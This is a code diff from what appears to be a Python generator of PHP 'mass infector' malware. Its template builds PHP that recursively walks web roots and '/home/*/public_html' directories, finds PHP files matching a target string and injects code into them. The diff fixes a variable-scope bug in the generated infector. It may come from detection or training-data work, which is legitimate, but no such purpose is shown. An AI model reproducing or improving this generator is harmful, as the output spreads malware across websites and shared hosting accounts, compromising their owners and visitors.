@@ -310,10 +310,10 @@ def t_mass_infector(g, php_file):
     match = "%s(%s, %s) !== false" % (g.fn("strpos"), f, target)
     if walk == "scandir":
         fn, d, e = g.fname(), g.var(), g.var()
-        body = ("function %s(%s)\n{\n    foreach (%s(%s) as %s) {\n        if (%s == '.' || %s == '..') continue;\n"
+        body = ("function %s(%s)\n{\n    global %s;\n    foreach (%s(%s) as %s) {\n        if (%s == '.' || %s == '..') continue;\n"
                 "        %s = %s . '/' . %s;\n        if (%s(%s)) { %s(%s); continue; }\n"
                 "        if (%s) {\n            %s\n        }\n    }\n}\n%s(%s);\n"
-                % (fn, d, g.fn("scandir"), d, e, e, e, f, d, e, g.fn("is_dir"), f, fn, f, match, ind(w, 12).rstrip(),
+                % (fn, d, c, g.fn("scandir"), d, e, e, e, f, d, e, g.fn("is_dir"), f, fn, f, match, ind(w, 12).rstrip(),
                    fn, r.choice(["$_SERVER['DOCUMENT_ROOT']", "'..'", "getcwd()", "'/home'"])))
     elif walk == "glob":
         pat = r.choice(["'../*/*.php'", "'/home/*/public_html/index.php'", "$_SERVER['DOCUMENT_ROOT'] . '/*/*'",
@@ -322,10 +322,10 @@ def t_mass_infector(g, php_file):
             g.fn("glob"), pat, f, match, ind(w, 8).rstrip())
     elif walk == "opendir":
         fn, d, dh, e = g.fname(), g.var(), g.var(), g.var()
-        body = ("function %s(%s)\n{\n    %s = %s(%s);\n    while ((%s = %s(%s)) !== false) {\n"
+        body = ("function %s(%s)\n{\n    global %s;\n    %s = %s(%s);\n    while ((%s = %s(%s)) !== false) {\n"
                 "        if (%s[0] == '.') continue;\n        %s = \"%s/%s\";\n"
                 "        if (%s(%s)) { %s(%s); } elseif (%s) {\n            %s\n        }\n    }\n}\n%s('.');\n"
-                % (fn, d, dh, g.fn("opendir"), d, e, g.fn("readdir"), dh, e, f, d, e, g.fn("is_dir"), f, fn, f,
+                % (fn, d, c, dh, g.fn("opendir"), d, e, g.fn("readdir"), dh, e, f, d, e, g.fn("is_dir"), f, fn, f,
                    match, ind(w, 12).rstrip(), fn))
     elif walk == "spl":
         it, o = g.var(), g.var()
